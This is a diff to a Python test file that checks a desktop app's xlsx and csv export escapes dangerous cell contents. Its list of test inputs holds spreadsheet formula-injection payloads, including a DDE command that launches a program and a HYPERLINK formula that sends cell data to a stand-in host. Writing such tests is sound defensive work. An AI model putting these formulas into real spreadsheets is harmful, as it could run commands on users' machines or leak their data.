@@ -13,14 +13,17 @@ from pathlib import Path
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from lxml import etree
 
-from desktop.operations.sheets import CannotExport, Sheet, UnknownKind, write
+from desktop.operations.sheets import Sheet, UnknownKind, write
+from desktop.store.outgoing import CannotExport
 from domain.text import for_spreadsheet, nfc
 
 BITING = [
     "=1+1", "+84 900 081 502", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff20a", "{=1+1}",
     "=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&A1,"xem")', "=WEBSERVICE(A1)", "http://127.0.0.1/x", "mailto:a@b",
     "internal:A1", "0900081502", "<b>Bé</b>&amp;", "</t></si><si><t>", "\u202e=1+1", "_x003D_1", "1e5", "00123",
+    "\ufffe\uffff",
 ]  # fmt: skip
 texts = st.one_of(st.sampled_from(BITING), st.text(max_size=60))
 
@@ -49,8 +52,11 @@ def test_an_xlsx_holds_texts_and_numbers_and_nothing_that_does_anything(
     assert "hyperlink" not in page
     assert not [name for name in parts if "rels" in name and "External" in parts[name]]
     assert page.count('t="s"') + page.count('t="inlineStr"') == 3 + len(rows)
+    for part in parts.values():
+        etree.fromstring(part.encode())
+    assert target.stat().st_mode & 0o777 == 0o600
     held = xlsx_texts(target)
-    assert [text for text, _ in rows if nfc(text) not in held] == []
+    assert [text for text, _ in rows if re.sub("[\ufffe\uffff]", "", nfc(text)) not in held] == []
 
 
 @given(st.lists(texts, min_size=1, max_size=6))
@@ -62,7 +68,8 @@ def test_a_csv_cell_that_would_be_a_formula_begins_with_an_apostrophe(
     target = tmp_path_factory.mktemp("so") / "số liệu.csv"
     write(Sheet("=Tên", ("@",), tuple((one, 7) for one in cells)), target)
     lines = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
-    assert [line[0] for line in lines[2:]] == [for_spreadsheet(nfc(one)) for one in cells]
+    kept = [re.sub("[\ufffe\uffff]", "", nfc(one)) for one in cells]
+    assert [line[0] for line in lines[2:]] == [for_spreadsheet(one) for one in kept]
     assert not [line for line in lines if line[0][:1] in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")]
     assert {line[1] for line in lines[2:]} == {"7"}
 
